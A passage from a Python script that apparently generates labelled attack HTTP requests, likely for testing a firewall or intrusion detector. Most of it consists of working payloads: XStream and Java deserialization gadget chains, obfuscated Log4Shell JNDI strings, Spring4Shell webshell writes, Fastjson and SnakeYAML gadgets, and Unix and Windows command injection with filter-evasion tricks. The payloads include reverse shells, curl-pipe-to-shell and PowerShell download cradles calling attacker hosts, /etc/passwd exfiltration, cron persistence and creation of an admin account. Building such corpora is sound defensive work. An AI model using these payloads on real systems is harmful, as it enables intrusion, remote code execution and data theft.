    targets = [("POST", "/struts2-rest-showcase/orders/3"), ("PUT", "/struts2-rest-showcase/orders/3"),
               ("POST", "/orders"), ("PUT", "/api/v1/orders/17"), ("POST", "/xml/import"), ("POST", "/api/rest/contacts"),
               ("POST", "/jenkins/createItem?name=x"), ("POST", "/services/ImportService")]
    ctypes = ["application/xml", "text/xml", "application/xml; charset=UTF-8", "text/xml;charset=utf-8"]
    gadgets = [("nativestring", "CVE-2017-9805 S2-052 NativeString/ImageIO ContainsFilter -> ProcessBuilder"),
               ("sorted-set", "CVE-2013-7285 sorted-set + dynamic-proxy + java.beans.EventHandler -> ProcessBuilder"),
               ("tree-map", "CVE-2013-7285 tree-map + EventHandler -> ProcessBuilder"),
               ("field-proxy", "CVE-2013-7285 dynamic-proxy in object field + EventHandler"),
               ("pq", "CVE-2021-21351/39139-style PriorityQueue chain with ContainsFilter -> ProcessBuilder")]
    out = []
    for i in range(30):
        g, note = gadgets[i % len(gadgets)]
        argv = argvs[(i * 3) % len(argvs)]
        if g == "nativestring":
            x = xs_nativestring(argv)
        elif g == "pq":
            x = xs_priorityqueue(argv)
        else:
            x = xs_eventhandler(argv, {"sorted-set": "sorted-set", "tree-map": "tree-map"}.get(g, "field"))
        style = (i // 5) % 4
        x = _xml_fmt(x, style)
        if i % 7 == 3:
            x = x.replace("<string>" + argv[-1] + "</string>", "<string><![CDATA[" + argv[-1].replace("&gt;", ">").replace("&amp;", "&") + "]]></string>")
        if i % 6 == 5:
            x = x.replace("<sorted-set>", "<sorted-set >").replace("<action>", "<action >")
        meth, path = targets[i % len(targets)]
        ct = ctypes[i % len(ctypes)]
        body = (x + ("\n" if i % 2 else "")).encode()
        out.append((f"{note}; argv={argv[:3]} style={style} ctype={ct}",
                    mk(meth, path, hdrs_attack(pick(ALL_HOSTS), ctype=ct), body)))
    return out


def fam_log4shell():
    payloads = [
        ("${jndi:ldap://203.0.113.42:1389/Exploit}", "plain ldap"),
        ("${jndi:ldaps://l4j.oast.example/a}", "ldaps"),
        ("${jndi:rmi://198.51.100.23:1099/obj}", "rmi"),
        ("${jndi:dns://dns.oast.example/probe}", "dns"),
        ("${jndi:ldap://${env:USER}.${hostName}.oast.example/x}", "env/hostName exfil in lookup host"),
        ("${jndi:ldap://${sys:java.version}.c2.example.com/a}", "sys property exfil"),
        ("${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.7/a}", "nested lower lookups"),
        ("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.23/poc}", "default-value ${::-x} obfuscation"),
        ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.42/a}", "env default obfuscation"),
        ("${j${upper:n}di:ldap://attacker.example.org/a}", "upper lookup inside keyword"),
        ("${${upper:j}ndi:ldap://attacker.example.org/b}", "upper lookup on first letter"),
        ("${${lower:${lower:jndi}}:${lower:rmi}://198.51.100.23/o}", "doubly nested lower"),
        ("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.7/d}", "date lookup obfuscation"),
        ("${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://c2.example.com/z}", "obfuscated protocol"),
        ("${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.42/k}", "unknown-lookup default obfuscation"),
        ("${jndi:iiop://198.51.100.23:900/x}", "iiop"),
        ("${jndi:nds://l4j.oast.example/x}", "nds"),
        ("${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example.org/e}", "env default obfuscation 2"),
        ("${jndi:ldap://127.0.0.1#evil.example.net:1389/a}", "CVE-2021-45046 localhost-bypass host"),
        ("${${lower:jnd}${upper:i}:ldap://203.0.113.7/m}", "split lower/upper"),
        ("${jn${env::-}di:ldap://203.0.113.42/q}", "empty default inserted"),
        ("${jndi:ldap://[203.0.113.42]:1389/b}", "bracketed host"),
    ]
    locs = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization", "Cookie", "query",
            "json", "form", "path", "Accept-Language", "X-Request-Id", "query2", "json2"]
    out = []
    for i in range(34):
        p, note = payloads[i % len(payloads)]
        loc = locs[i % len(locs)]
        host = pick(ALL_HOSTS)
        if loc in ("query", "query2"):
            enc = qv_full(p) if loc == "query" else qv_full(qv_full(p)) if i % 3 == 0 else hex_mixed(p, safe="abcdefghijklmnopqrstuvwxyz0123456789.")
            raw = mk("GET", f"/search?q={enc}&page=1", hdrs_attack(host))
            where = "query (" + ("double-" if loc == "query2" and i % 3 == 0 else "") + "URL-encoded)"
        elif loc in ("json", "json2"):
            body = json.dumps({"username": p, "password": "hunter2"} if loc == "json" else
                              {"event": "signup", "props": {"referrer": p, "plan": "free"}})
            raw = mk("POST", "/api/login" if loc == "json" else "/v1/track", hdrs_attack(host, ctype="application/json"), body)
            where = "JSON body"
        elif loc == "form":
            raw = mk("POST", "/login", hdrs_attack(host, ctype="application/x-www-form-urlencoded"), form([("user", p), ("pass", "x")]))
            where = "form body"
        elif loc == "path":
            raw = mk("GET", "/api/v2/items/" + quote(p, safe=":"), hdrs_attack(host))
            where = "path segment"
        else:
            v = p
            if loc == "Authorization":
                v = "Bearer " + p
            elif loc == "Cookie":
                v = "JSESSIONID=" + p + "; lang=en"
            if loc == "User-Agent":
                hs = [("Host", host), ("User-Agent", v), ("Accept", "*/*")]
            else:
                hs = hdrs_attack(host, extra=[(loc, v)])
            raw = mk("GET", pick(["/", "/index.jsp", "/api/status", "/login", "/solr/admin/cores?action=CREATE"]), hs)
            where = loc + " header"
        out.append((f"CVE-2021-44228 {note} in {where}", raw))
    return out


def _jutf(s):
    b = s.encode()
    return struct.pack(">H", len(b)) + b


def java_serialized(classes, strings):
    """A serialisation stream in the shape ysoserial-like gadget chains take:
    stream magic AC ED 00 05, nested TC_OBJECT/TC_CLASSDESC entries naming the
    gadget classes, then TC_STRING values (method names, command)."""
    out = b"\xac\xed\x00\x05"
    for cn in classes:
        out += b"\x73\x72" + _jutf(cn) + struct.pack(">Q", R.getrandbits(64)) + b"\x02"
        out += struct.pack(">H", 2) + b"L" + _jutf("iMethodName") + b"\x74" + _jutf("Ljava/lang/String;")
        out += b"[" + _jutf("iArgs") + b"\x74" + _jutf("[Ljava/lang/Object;") + b"\x78\x70"
    for s in strings:
        out += b"\x74" + _jutf(s)
    out += b"\x78"
    return out


GADGETS = [
    ("CommonsCollections1-style", ["sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.map.LazyMap",
                                   "org.apache.commons.collections.functors.ChainedTransformer", "org.apache.commons.collections.functors.ConstantTransformer",
                                   "org.apache.commons.collections.functors.InvokerTransformer"], ["getMethod", "getRuntime", "invoke", "exec"]),
    ("CommonsCollections2-style", ["java.util.PriorityQueue", "org.apache.commons.collections4.comparators.TransformingComparator",
                                   "org.apache.commons.collections4.functors.InvokerTransformer",
                                   "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"], ["newTransformer", "java.lang.Runtime", "exec"]),
    ("CommonsBeanutils1-style", ["java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator",
                                 "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"], ["outputProperties", "java.lang.ProcessBuilder", "start"]),
    ("Groovy1-style", ["sun.reflect.annotation.AnnotationInvocationHandler", "org.codehaus.groovy.runtime.ConvertedClosure",
                       "org.codehaus.groovy.runtime.MethodClosure"], ["entrySet", "execute"]),
    ("Jdk7u21-style", ["java.util.LinkedHashSet", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
                       "sun.reflect.annotation.AnnotationInvocationHandler"], ["f5a5a608", "getOutputProperties", "java.lang.Runtime"]),
    ("CommonsCollections6-style", ["java.util.HashSet", "org.apache.commons.collections.keyvalue.TiedMapEntry",
                                   "org.apache.commons.collections.map.LazyMap", "org.apache.commons.collections.functors.InvokerTransformer"],
     ["getRuntime", "exec"]),
    ("Spring1-style", ["org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                       "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                       "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"], ["newTransformer", "java.lang.ProcessBuilder"]),
    ("C3P0-style", ["com.mchange.v2.c3p0.PoolBackedDataSource", "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase"],
     ["http://203.0.113.42:8000/", "Exploit"]),
]


def fam_java_deser():
    cmds = ["touch /tmp/deser", "id", "curl http://203.0.113.42/d|sh", "nslookup jd.oast.example", "bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}",
            "wget http://198.51.100.23/j -O /tmp/j", "ping -c 2 192.0.2.10", "cmd.exe /c whoami"]
    blobs = []
    for i, (gname, classes, strs) in enumerate(GADGETS):
        blobs.append((gname, java_serialized(classes, strs + [cmds[i % len(cmds)]])))
    out = []
    # base64 rO0AB in cookie / params / bodies / headers
    for i in range(8):
        gname, blob = blobs[i % len(blobs)]
        b64 = base64.b64encode(blob).decode()
        host = pick(ALL_HOSTS)
        kind = i % 8
        if kind == 0:
            raw = mk("GET", "/account/home", hdrs_attack(host, extra=[("Cookie", f"JSESSIONID=8F1C2A0D33E9; session={b64}")]))
            where = "session cookie"
        elif kind == 1:
            raw = mk("POST", "/faces/login.xhtml", hdrs_attack(host, ctype="application/x-www-form-urlencoded"),
                     form([("loginForm", "loginForm"), ("loginForm:user", "a"), ("javax.faces.ViewState", b64)]))
            where = "JSF javax.faces.ViewState form field"
        elif kind == 2:
            raw = mk("GET", "/api/restore?state=" + qv_full(b64), hdrs_attack(host))
            where = "query parameter (URL-encoded base64)"
        elif kind == 3:
            raw = mk("POST", "/api/v1/jobs/import", hdrs_attack(host, ctype="application/json"), json.dumps({"name": "nightly", "payload": b64}))
            where = "JSON body field"
        elif kind == 4:
            raw = mk("GET", "/dashboard", hdrs_attack(host, extra=[("X-Session-State", b64)]))
            where = "custom header"
        elif kind == 5:
            raw = mk("POST", "/cas/login", hdrs_attack(host, ctype="application/x-www-form-urlencoded"),
                     form([("username", "a"), ("password", "b"), ("execution", "e1s1_" + b64), ("_eventId", "submit")]))
            where = "CAS-style execution field"
        elif kind == 6:
            raw = mk("GET", "/portal/", hdrs_attack(host, extra=[("Cookie", f"lang=en; remember_token={b64}; theme=dark")]))
            where = "remember-me cookie"
        else:
            raw = mk("POST", "/api/cache/put", hdrs_attack(host, ctype="text/plain"), b64)
            where = "text/plain body"
        out.append((f"Java serialized object ({gname}) base64 rO0AB in {where}", raw))
    # gzip+base64 (H4sI) viewstate and hex form
    gz = base64.b64encode(gzip.compress(blobs[0][1], mtime=0)).decode()
    out.append(("Java serialized object gzipped+base64 (H4sI) in ViewState", mk("POST", "/faces/index.xhtml", hdrs_attack(pick(ALL_HOSTS), ctype="application/x-www-form-urlencoded"), form([("javax.faces.ViewState", gz)]))))
    out.append(("Java serialized object hex-encoded (aced0005) in parameter", mk("GET", "/rpc?obj=" + blobs[1][1].hex(), hdrs_attack(pick(ALL_HOSTS)))))
    # raw binary bodies
    endpoints = [("/invoker/JMXInvokerServlet", "CVE-2015-7501 JBoss JMXInvokerServlet"), ("/invoker/readonly", "CVE-2017-12149 JBoss readonly invoker"),
                 ("/invoker/EJBInvokerServlet", "JBoss EJBInvokerServlet"), ("/jbossmq-httpil/HTTPServerILServlet", "CVE-2017-7504 JBossMQ HTTPServerILServlet"),
                 ("/api/objects", "generic Java object endpoint"), ("/remoting/AccountService", "Spring HttpInvoker endpoint")]
    for i, (path, note) in enumerate(endpoints):
        gname, blob = blobs[(i + 2) % len(blobs)]
        ct = "application/x-java-serialized-object" if i != 4 else "application/octet-stream"
        if i == 5:
            ct = "application/x-java-serialized-object; charset=UTF-8"
        out.append((f"raw serialized Java object ({gname}) body to {note}", mk("POST", path, hdrs_attack(pick(ALL_HOSTS), ctype=ct), blob)))
    # Spring4Shell
    s4 = [("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i"),
          ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
          ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
          ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
          ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]
    s4h = [("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%")]
    h = hdrs_attack(pick(ALL_HOSTS), ctype="application/x-www-form-urlencoded", extra=s4h)
    out.append(("CVE-2022-22965 Spring4Shell AccessLogValve pattern write via form body", mk("POST", "/greeting", h, form(s4))))
    out.append(("CVE-2022-22965 Spring4Shell via query string", mk("GET", "/app/hello?" + form(s4), hdrs_attack(pick(ALL_HOSTS), extra=s4h))))
    out.append(("CVE-2022-22965 Spring4Shell, single pattern param only", mk("POST", "/register", hdrs_attack(pick(ALL_HOSTS), ctype="application/x-www-form-urlencoded"), form(s4[:1]))))
    out.append(("CVE-2022-22965 Spring4Shell probe class.module.classLoader.URLs[0]", mk("GET", "/index?" + qv("class.module.classLoader.URLs") + "%5B0%5D=0", hdrs_attack(pick(ALL_HOSTS)))))
    out.append(("CVE-2022-22965 Spring4Shell bracket-notation variant", mk("POST", "/users", hdrs_attack(pick(ALL_HOSTS), ctype="application/x-www-form-urlencoded"),
                form([("class[module][classLoader][resources][context][parent][pipeline][first][pattern]", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
                      ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp")]))))
    # Fastjson / Jackson polymorphic gadgets
    fj = [
        ({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.42:1389/Obj", "autoCommit": True}, "Fastjson @type JdbcRowSetImpl JNDI"),
        ({"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
          "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://198.51.100.23:1099/x", "autoCommit": True}}, "Fastjson 1.2.47 java.lang.Class cache bypass"),
        ({"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": "ldap://attacker.example.org/a", "autoCommit": True}, "Fastjson L...; descriptor bypass"),
        ({"@type": "org.apache.xbean.propertyeditor.JndiConverter", "AsText": "ldap://203.0.113.7:1389/x"}, "Fastjson/Jackson JndiConverter gadget"),
        ({"@type": "com.zaxxer.hikari.HikariConfig", "metricRegistry": "ldap://203.0.113.42:1389/h"}, "HikariConfig JNDI gadget"),
    ]
    for obj, note in fj:
        out.append((note, mk("POST", pick(["/api/user", "/json/parse", "/v1/settings", "/api/order"]), hdrs_attack(pick(ALL_HOSTS), ctype="application/json"), json.dumps(obj))))
    out.append(("Fastjson @type with \\u0040 unicode escape", mk("POST", "/api/user", hdrs_attack(pick(ALL_HOSTS), ctype="application/json"),
                '{"\\u0040type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.42/u","autoCommit":true}')))
    out.append(("Jackson default typing array form JdbcRowSetImpl", mk("POST", "/api/prefs", hdrs_attack(pick(ALL_HOSTS), ctype="application/json"),
                json.dumps(["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://198.51.100.23:389/j", "autoCommit": True}]))))
    out.append(("Jackson logback JNDIConnectionSource gadget", mk("POST", "/api/prefs", hdrs_attack(pick(ALL_HOSTS), ctype="application/json"),
                json.dumps({"id": 1, "obj": ["ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": "ldap://203.0.113.7:1389/lb"}]}))))
    # SnakeYAML ScriptEngineManager
    y = "!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL [\"http://203.0.113.42:8000/yaml-payload.jar\"]\n  ]]\n]\n"
    out.append(("SnakeYAML javax.script.ScriptEngineManager + URLClassLoader (CVE-2022-1471 class)", mk("POST", "/actuator/env", hdrs_attack(pick(ALL_HOSTS), ctype="application/x-yaml"), y)))
    y2 = "config:\n  loader: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://198.51.100.23/p.jar\"]]]]\n"
    out.append(("SnakeYAML gadget nested in config document", mk("PUT", "/api/config", hdrs_attack(pick(ALL_HOSTS), ctype="text/yaml"), y2)))
    out.append(("Jackson ScriptEngineManager-through-JNDI + Runtime exec JSON", mk("POST", "/api/eval", hdrs_attack(pick(ALL_HOSTS), ctype="application/json"),
                json.dumps({"@class": "javax.script.ScriptEngineManager", "engine": "js",
                            "script": "java.lang.Runtime.getRuntime().exec('id')"}))))
    return out


SHELL_CMDS = [
    "cat /etc/passwd", "id", "whoami", "uname -a", "wget http://203.0.113.42/x.sh -O /tmp/x.sh",
    "curl http://evil.example.net/s.sh|sh", "nc -e /bin/sh 203.0.113.7 4444", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'",
    "perl -e 'use Socket;$i=\"198.51.100.23\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
    "rm -rf /var/www/html", "chmod 777 /tmp/x.sh", "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh", "ping -c 10 198.51.100.23",
    "nslookup ci.oast.example", "sleep 10", "ls -la", "ps aux", "(crontab -l;echo '* * * * * curl -s http://203.0.113.42/c|sh')|crontab -",
    "busybox nc 203.0.113.7 4444 -e sh", "/bin/sh -c 'cat /etc/shadow'", "cat /etc/shadow", "curl -d @/etc/passwd http://evil.example.net/",
    "uname -a;id", "wget -qO- http://198.51.100.23/m|sh", "cat /proc/self/environ", "ls -la /root", "id;whoami",
]
SIMPLE = {"cat /etc/passwd", "id", "whoami", "uname -a", "ls -la", "ps aux", "cat /etc/shadow", "sleep 10", "ls -la /root",
          "cat /proc/self/environ"}


def ev_quote1(c):   # c''at /et''c/pas''swd
    return " ".join(w[:1] + "''" + w[1:] if len(w) > 1 else w for w in c.split(" "))


def ev_quote2(c):   # c"a"t
    return " ".join((w[0] + '"' + w[1] + '"' + w[2:]) if len(w) > 2 else w for w in c.split(" "))


def ev_backslash(c):
    return " ".join("\\".join([w[:1], w[1:]]) if len(w) > 1 and w[1] != "-" else w for w in c.split(" "))


def ev_ifs(c):
    return c.replace(" ", "${IFS}")


def ev_ifs2(c):
    return c.replace(" ", "$IFS")


def ev_brace(c):
    return "{" + c.replace(" ", ",") + "}"


def ev_wild(c):
    m = {"cat /etc/passwd": "/???/c?t /???/p??s??", "cat /etc/shadow": "/???/c?t /???/s?a??w", "id": "/u?r/b?n/i?",
         "whoami": "/u?r/b?n/wh??mi", "uname -a": "/???/u?am? -a", "ls -la": "/???/l? -la", "ps aux": "/???/p? aux",
         "sleep 10": "/???/sl??p 10", "ls -la /root": "/???/l? -la /r??t", "cat /proc/self/environ": "/???/c?t /pr?c/s?lf/e?v?r?n"}
    return m[c]


def ev_at(c):
    return " ".join(w[:1] + "$@" + w[1:] if len(w) > 1 and w[0] != "-" else w for w in c.split(" "))


def ev_tab(c):
    return c.replace(" ", "\t")


def ev_home(c):
    return c.replace("/", "${HOME:0:1}")


def ev_redir(c):
    return c.replace("cat ", "cat<") if c.startswith("cat ") else c.replace(" ", "${IFS}")


def ev_var(c):
    w = c.split(" ")[0]
    rest = c[len(w):]
    h = len(w) // 2
    return f"a={w[:h]};b={w[h:]};$a$b{rest}"


EVASIONS = [("none", None), ("quote-insertion ''", ev_quote1), ("double-quote insertion", ev_quote2),
            ("backslash insertion", ev_backslash), ("${IFS}", ev_ifs), ("$IFS", ev_ifs2), ("brace expansion", ev_brace),
            ("glob wildcards", ev_wild), ("$@ insertion", ev_at), ("tabs for spaces", ev_tab), ("${HOME:0:1} for /", ev_home),
            ("redirect/IFS no-space", ev_redir), ("variable concatenation", ev_var)]
SEPS = [";", "|", "||", "&&", "&", "\n", "`", "$(", "; ", " | ", "%0a-literal", "\r\n"]


def inject(prefix, sep, cmd):
    if sep == "`":
        return f"{prefix}`{cmd}`"
    if sep == "$(":
        return f"{prefix}$({cmd})"
    if sep == "%0a-literal":
        return f"{prefix}\n{cmd}"
    return f"{prefix}{sep}{cmd}"


SI_CTX = [
    ("GET", "/api/diag/ping?host={v}", "198.51.100.1", "query", "network diagnostic host parameter"),
    ("GET", "/cgi-bin/nslookup.cgi?domain={v}&type=A", "example.com", "query", "nslookup CGI domain parameter"),
    ("POST", "/admin/network/traceroute", "192.0.2.1", "form", "router admin traceroute form"),
    ("POST", "/api/v1/devices/7/rename", "printer-2f", "json:name", "device rename JSON"),
    ("POST", "/api/convert", "report.pdf", "json:filename", "document converter filename"),
    ("GET", "/download?file={v}", "invoice-2024-03.txt", "query", "download file parameter"),
    ("POST", "/dvwa/vulnerabilities/exec/", "127.0.0.1", "form:ip", "ping form ip field"),
    ("GET", "/api/v1/backup/{v}/status", "nightly", "path", "path segment passed to backup script"),
    ("POST", "/api/hooks/git", "main", "json:ref", "webhook ref passed to git"),
    ("GET", "/tools/whois?q={v}", "example.org", "query", "whois lookup"),
    ("POST", "/setup/ntp", "pool.ntp.example", "form:server", "appliance NTP server field"),
    ("PUT", "/api/v2/jobs/42", "thumbnail --size 128", "json:args", "job arguments JSON"),
    ("GET", "/img/resize?src={v}&w=200", "cat.png", "query", "image resize src (ImageMagick shell-out)"),
    ("POST", "/api/mail/test", "ops@example.com", "json:to", "sendmail recipient"),
    ("GET", "/status", "", "header:X-Forwarded-For", "X-Forwarded-For logged via shell"),
    ("GET", "/", "", "header:User-Agent", "User-Agent passed to shell"),
    ("POST", "/api/v1/exec/lint", "main.tf", "multipart:file", "multipart field"),
    ("GET", "/dl/{v}", "archive.zip", "path", "path file name"),
]


def _encode_ctx_value(v, enc):
    if enc == "url":
        return qv_full(v)
    if enc == "double":
        return qv_full(qv_full(v))
    if enc == "mixedhex":
        return hex_mixed(v, safe="abcdefghijklmnopqrstuvwxyz0123456789.-_")
    return qv(v)


def fam_shell_injection():
    out = []
    seen = set()
    i = 0
    n = 0
    encs = ["plain", "url", "plain", "double", "mixedhex", "plain", "url"]
    while n < 118:
        sep = SEPS[i % len(SEPS)]
        if i % 2 == 0:   # full command list, no shell-level evasion
            cmd = SHELL_CMDS[(i // 2 * 5) % len(SHELL_CMDS)]
            evname, evf = EVASIONS[0]
        else:            # simple command with a shell-level evasion
            cmd = sorted(SIMPLE)[(i // 2 * 3) % len(SIMPLE)]
            evname, evf = EVASIONS[1 + (i // 2) % (len(EVASIONS) - 1)]
        ctx = SI_CTX[(i * 11) % len(SI_CTX)]
        enc = encs[(i * 3) % len(encs)]
        i += 1
        if evf is not None:
            if cmd not in SIMPLE:
                evname, evf = "none", None
            else:
                cmd = evf(cmd)
        meth, tmpl, prefix, loc, cdesc = ctx
        value = inject(prefix, sep, cmd)
        if loc.startswith("header") and ("\n" in value or "\r" in value):
            sep = ";"
            value = inject(prefix, sep, cmd)
        host = pick(ALL_HOSTS)
        if loc == "query" or loc == "path":
            if loc == "path" and enc == "plain":
                enc = "url"
            target = tmpl.format(v=_encode_ctx_value(value, enc))
            raw = mk(meth, target, hdrs_attack(host))
        elif loc.startswith("form"):
            field = loc.split(":")[1] if ":" in loc else "target"
            if enc == "double":
                body = f"{field}={qv_full(qv_full(value))}&Submit=Submit"
            elif enc == "mixedhex":
                body = f"{field}={hex_mixed(value, safe='abcdefghijklmnopqrstuvwxyz0123456789.-_')}&Submit=Submit"
            else:
                body = form([(field, value), ("Submit", "Submit")])
            raw = mk(meth, tmpl, hdrs_attack(host, ctype="application/x-www-form-urlencoded"), body)
        elif loc.startswith("json"):
            field = loc.split(":")[1]
            v = value if enc in ("plain", "url") else (qv_full(value) if enc == "double" else value)
            obj = {field: [v] if field == "args" else v}
            if field == "ref":
                obj = {"ref": v, "repository": {"full_name": "acme/shop"}}
            raw = mk(meth, tmpl, hdrs_attack(host, ctype="application/json"), json.dumps(obj))
            if enc == "double":
                enc = "url-in-json"
            elif enc not in ("plain",):
                enc = "plain"
        elif loc.startswith("multipart"):
            ctype, body = multipart([([("Content-Disposition", 'form-data; name="file"')], value)])
            raw = mk(meth, tmpl, hdrs_attack(host, ctype=ctype), body)
            enc = "plain"
        else:
            hname = loc.split(":")[1]
            v = value if hname != "X-Forwarded-For" else "198.51.100.4" + value
            if hname == "User-Agent":
                hs = [("Host", host), ("User-Agent", "Mozilla/5.0 " + v), ("Accept", "*/*")]
            else:
                hs = hdrs_attack(host, extra=[(hname, v)])
            raw = mk(meth, tmpl.format(v=""), hs)
            enc = "plain"
        if raw in seen:
            continue
        seen.add(raw)
        sepname = {"\n": "newline", "%0a-literal": "newline", "\r\n": "CRLF", "`": "backticks", "$(": "$()"}.get(sep, repr(sep.strip() or sep))
        out.append((f"{cdesc}: sep={sepname} evasion={evname} enc={enc} cmd={cmd[:60]!r}", raw))
        n += 1
    # a few hand-written classics
    extra = [
        ("GET", "/cgi-bin/webproc?var:page=" + qv_full(";cat /etc/passwd"), None, "router webproc page param"),
        ("POST", "/goform/setNTP", "ntpserver=" + qv_full("time.example.net`busybox wget -O- http://203.0.113.42/b|sh`"), "IoT goform backticks + busybox"),
        ("GET", "/api/diag/ping?host=127.0.0.1%0A%2Fbin%2Fsh%20-c%20%27id%27", None, "%0a newline then /bin/sh -c"),
        ("GET", "/api/diag/ping?host=127.0.0.1%250Aid", None, "double-encoded newline (%250A) + id"),
        ("POST", "/api/v1/webhook", json.dumps({"cmd": "echo aWQ7dW5hbWUgLWE= | base64 -d | sh"}), "base64-piped-to-sh in JSON"),
        ("GET", "/cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=" + qv_full("*\";id;\""), None, "quote-breaking injection into CGI"),
    ]
    for meth, target_or_body, body, note in extra:
        host = pick(ALL_HOSTS)
        if meth == "GET":
            raw = mk("GET", target_or_body, hdrs_attack(host))
        else:
            ct = "application/x-www-form-urlencoded" if body.startswith("ntpserver") else "application/json"
            raw = mk("POST", target_or_body, hdrs_attack(host, ctype=ct), body)
        out.append((note, raw))
    return out


def ps_enc(cmd):
    return base64.b64encode(cmd.encode("utf-16-le")).decode()


def fam_windows_cmd():
    P = [
        ("127.0.0.1 & dir", "& dir"),
        ("x | type C:\\Windows\\win.ini", "| type win.ini"),
        ("a&cmd.exe /c whoami", "cmd.exe /c whoami"),
        ("foo & cmd /c whoami", "cmd /c whoami"),
        ("1&&w^h^o^a^m^i", "caret evasion whoami"),
        ("a|c^m^d /c \"ty^pe C:\\inetpub\\wwwroot\\web.config\"", "caret evasion cmd + type web.config"),
        ("x & powershell -enc " + ps_enc("Invoke-WebRequest http://203.0.113.42/a.ps1 -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1"), "powershell -enc"),
        ("x | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.42/r.ps1')\"", "powershell IEX DownloadString"),
        ("1 & certutil -urlcache -split -f http://198.51.100.23/p.exe %TEMP%\\p.exe", "certutil -urlcache download"),
        ("x & %COMSPEC% /c ver", "%COMSPEC%"),
        ("x && bitsadmin /transfer j /download /priority high http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe", "bitsadmin download"),
        ("a | mshta http://203.0.113.7/x.hta", "mshta remote HTA"),
        ("a & regsvr32 /s /n /u /i:http://203.0.113.7/x.sct scrobj.dll", "regsvr32 squiblydoo"),
        ("a & net user svc_bk P@ssw0rd1 /add && net localgroup administrators svc_bk /add", "net user add admin"),
        ("127.0.0.1 | ipconfig /all", "ipconfig"),
        ("127.0.0.1 & systeminfo", "systeminfo"),
        ("x & \"c\"m\"d\" /c whoami", "quote insertion cmd"),
        ("x & cmd /v:on /c \"set a=who&& set b=ami&& call !a!!b!\"", "delayed-expansion concatenation"),
        ("x & %ProgramData:~0,1%%ProgramData:~9,2% /c echo owned", "env-var substring builds cmd"),
        ("x & powershell.exe -ExecutionPolicy Bypass -File \\\\198.51.100.23\\share\\x.ps1", "powershell UNC script"),
        ("x & wmic process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\"", "wmic process create"),
        ("x | findstr /si password *.config *.xml", "findstr password hunting"),
        ("x & tasklist /v", "tasklist"),
        ("report.txt & type C:\\Windows\\System32\\drivers\\etc\\hosts", "type hosts"),
        ("x;powershell -c \"iwr http://203.0.113.42/s -useb | iex\"", "powershell iwr | iex"),
    ]
    ctxs = [("GET", "/api/diag/ping?host={v}", "query"), ("POST", "/admin/Tools/Ping.aspx", "form:target"),
            ("POST", "/api/v1/print", "json:document"), ("GET", "/Default.aspx?file={v}", "query-mixed"),
            ("GET", "/", "header:X-Client-Name")]
    out = []
    for i, (p, note) in enumerate(P):
        meth, tmpl, loc = ctxs[i % len(ctxs)]
        host = pick(ALL_HOSTS)
        if loc.startswith("query"):
            v = qv(p) if loc == "query" else hex_mixed(p, safe="abcdefghijklmnopqrstuvwxyz0123456789.-")
            raw = mk(meth, tmpl.format(v=v), hdrs_attack(host))
        elif loc.startswith("form"):
            raw = mk(meth, tmpl, hdrs_attack(host, ctype="application/x-www-form-urlencoded"), form([("__VIEWSTATEGENERATOR", "CA0B0334"), (loc[5:], p)]))
        elif loc.startswith("json"):
